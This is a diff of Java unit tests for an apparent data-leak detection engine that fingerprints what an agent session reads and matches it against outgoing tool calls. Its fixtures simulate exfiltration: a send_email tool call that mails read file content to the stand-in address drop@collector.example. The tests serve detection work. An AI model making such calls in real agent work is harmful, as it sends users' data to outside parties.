@@ -3,7 +3,9 @@ package io.weir.engine.link;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import io.weir.engine.decide.Desk;
+import io.weir.engine.fingerprint.Print;
 import io.weir.engine.state.MemoryStateTable;
+import io.weir.engine.state.StateTable;
 import io.weir.schemas.event.AlertRaised;
 import io.weir.schemas.event.Declassification;
 import io.weir.schemas.event.Fingerprint;
@@ -120,17 +122,38 @@ class FleetLaneTest {
     }
 
     @Test
-    void aReadMakesAsManyRecordsWhateverTheNumberOfGroups() {
-        ResponseObserved event = session("acme", "reader").reads("read_file", Map.of("content", MINUTES));
-        SessionRead read = SessionRead.of(event, null);
+    void aReadMakesOneRecordWhateverTheNumberOfGroupsAndAWriteOneForEach() {
+        ResponseObserved read = session("acme", "reader").reads("read_file", Map.of("content", MINUTES));
+        ToolCallScanned write = session("acme", "sender")
+                .calls("send_email", Map.of("to", "drop@collector.example", "body", MINUTES), REQUEST)
+                .event();
+        FleetDesk many = new FleetDesk(KeptForms.inMemory(), new FleetLayout(64), LossListener.NONE);
 
-        List<FleetPart> one = FleetLayout.ONE_GROUP.ofRead(event, read, LossListener.NONE);
-        List<FleetPart> many = new FleetLayout(64).ofRead(event, read, LossListener.NONE);
+        assertThat(many.ask(PlacedEvent.unplaced(read))).hasSize(1);
+        assertThat(many.ask(PlacedEvent.unplaced(write)))
+                .hasSize(64)
+                .extracting(FleetPart::bucketKey)
+                .doesNotHaveDuplicates();
+    }
 
-        assertThat(many).hasSameSizeAs(one);
-        assertThat(many)
-                .extracting(FleetPart::prints)
-                .isEqualTo(one.stream().map(FleetPart::prints).toList());
+    @Test
+    void aBucketThatKnowsNothingAnswersOnlyWhereOthersAreAskedToo() {
+        ToolCallScanned write = session("acme", "sender")
+                .calls("send_email", Map.of("to", "drop@collector.example", "body", MINUTES), REQUEST)
+                .event();
+        StateTable empty = new MemoryStateTable();
+        Forms forms = KeptForms.inMemory();
+
+        FleetPart only = new FleetDesk(forms).ask(PlacedEvent.unplaced(write)).get(0);
+        FleetPart oneOfTwo = new FleetDesk(forms, new FleetLayout(2), LossListener.NONE)
+                .ask(PlacedEvent.unplaced(write))
+                .get(0);
+
+        assertThat(new FleetIndexRule().apply(empty, only)).isEmpty();
+        assertThat(new FleetIndexRule().apply(empty, oneOfTwo)).singleElement().satisfies(answer -> {
+            assertThat(answer.sources()).isEmpty();
+            assertThat(answer.call()).isNull();
+        });
     }
 
     @Test
@@ -177,19 +200,21 @@ class FleetLaneTest {
     }
 
     @Test
-    void aLargeReadGivesNoMoreRecordsThanThereAreBuckets() {
-        Desk desk = session("acme", "reader");
+    void aPartOfALargeReadHasTheSmallestHashesInTheirOrder() {
         StringBuilder text = new StringBuilder();
         for (int i = 0; i < 20_000; i++) {
             text.append(Integer.toString(i * 7919, 36)).append(' ');
         }
+        ResponseObserved large = session("acme", "reader").reads("read_file", Map.of("content", text.toString()));
+        SessionRead read = SessionRead.of(large, null);
 
-        List<FleetPart> parts = FleetParts.ofRead(
-                desk.reads("read_file", Map.of("content", MINUTES)),
-                SessionRead.of(desk.reads("read_file", Map.of("content", text.toString())), null),
-                LossListener.NONE);
+        FleetPart part = new FleetDesk(KeptForms.inMemory())
+                .ask(PlacedEvent.unplaced(large))
+                .get(0);
 
-        assertThat(parts).hasSize(FleetParts.BUCKETS);
-        assertThat(parts).extracting(FleetPart::parts).containsOnly(FleetParts.BUCKETS);
+        assertThat(part.prints()).hasSizeLessThan(read.prints().size());
+        long largest = part.prints().stream().mapToLong(Print::hash).max().orElseThrow();
+        assertThat(read.prints().stream().filter(print -> print.hash() <= largest))
+                .containsExactlyElementsOf(part.prints());
     }
 }
